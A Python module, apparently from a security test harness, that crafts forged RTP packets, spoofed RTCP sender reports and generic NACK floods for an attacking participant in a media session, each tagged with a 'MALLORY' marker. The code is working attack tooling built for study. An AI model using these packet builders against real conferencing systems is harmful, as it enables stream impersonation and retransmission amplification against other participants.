"""Plain (not yet SRTP-protected) RTP and RTCP an attacking participant sends: RTP under SSRCs it does
not own, generic NACK floods (RFC 4585 §6.2.1), sender reports (RFC 3550 §6.4.1) in another sender's
name. Pure functions on bytes, so test_harness_offline.py checks them against aiortc's parser.

Everything M sends carries MARKER (in RTP payloads) or MARKER_NTP (in sender reports), so a victim's
PacketTap can tell M's packets from the real sender's even when the SSRC is the same.
"""

from __future__ import annotations

import struct
from typing import Iterable

MARKER = b"MALLORY-WAS-HERE"  # 16 bytes in every RTP payload M forges
MARKER_NTP = 0x4D414C4C_4F525921  # "MALLORY!" as the 64-bit NTP timestamp of M's forged SRs

RTCP_SR, RTCP_RR, RTCP_RTPFB = 200, 201, 205
RTPFB_GENERIC_NACK = 1
NACK_ENTRY_SPAN = 17  # one FCI entry: PID plus 16 bits of BLP


def rtp_packet(*, ssrc: int, sequence_number: int, timestamp: int, payload_type: int, payload: bytes,
               marker: bool = False) -> bytes:
    """Version 2, no padding, extension or CSRCs."""
    return struct.pack("!BBHII", 0x80, (0x80 if marker else 0) | payload_type, sequence_number & 0xFFFF,
                       timestamp & 0xFFFFFFFF, ssrc & 0xFFFFFFFF) + payload


def vp8_payload(repeat: int = 8) -> bytes:
    """A VP8 payload descriptor (S=1, partition 0) before the marker: parses as the start of a frame."""
    return b"\x10" + MARKER * repeat


def opus_payload(repeat: int = 4) -> bytes:
    return MARKER * repeat


def _rtcp_header(count: int, packet_type: int, body_length: int) -> bytes:
    """`body_length` bytes follow the 4-byte header; RTCP's length field counts 32-bit words minus one."""
    assert body_length % 4 == 0
    return struct.pack("!BBH", 0x80 | count, packet_type, body_length // 4)


def receiver_report(sender_ssrc: int) -> bytes:
    """An RR without report blocks: the mandatory first packet of a compound (RFC 3550 §6.1)."""
    return _rtcp_header(0, RTCP_RR, 4) + struct.pack("!I", sender_ssrc)


def sender_report(*, sender_ssrc: int, ntp_timestamp: int = MARKER_NTP, rtp_timestamp: int = 0,
                  packet_count: int = 1, octet_count: int = 100) -> bytes:
    """An SR without report blocks."""
    body = struct.pack("!IQIII", sender_ssrc, ntp_timestamp, rtp_timestamp & 0xFFFFFFFF,
                       packet_count, octet_count)
    return _rtcp_header(0, RTCP_SR, len(body)) + body


def nack_entries(highest: int, count: int) -> list[tuple[int, int]]:
    """`count` FCI entries (PID, BLP=0xFFFF) that together ask for the `count` * 17 sequence numbers
    ending at `highest`: every packet the sender's cache could still hold."""
    first = (highest - count * NACK_ENTRY_SPAN + 1) & 0xFFFF
    return [((first + i * NACK_ENTRY_SPAN) & 0xFFFF, 0xFFFF) for i in range(count)]


def generic_nack(*, sender_ssrc: int, media_ssrc: int, entries: Iterable[tuple[int, int]]) -> bytes:
    fci = b"".join(struct.pack("!HH", pid, blp) for pid, blp in entries)
    body = struct.pack("!II", sender_ssrc, media_ssrc) + fci
    return _rtcp_header(RTPFB_GENERIC_NACK, RTCP_RTPFB, len(body)) + body


def nack_compound(*, sender_ssrc: int, media_ssrc: int, highest: int, entries: int) -> bytes:
    """RR + generic NACK: `entries` FCI entries (4 bytes each; 290 make a ~1.2 KB packet)."""
    return receiver_report(sender_ssrc) + generic_nack(
        sender_ssrc=sender_ssrc, media_ssrc=media_ssrc, entries=nack_entries(highest, entries))


def nacked_sequence_numbers(entries: Iterable[tuple[int, int]]) -> set[int]:
    """Every sequence number a list of FCI entries asks for (for the offline self-test)."""
    out = set()
    for pid, blp in entries:
        out.add(pid)
        out.update((pid + bit + 1) & 0xFFFF for bit in range(16) if blp & (1 << bit))
    return out
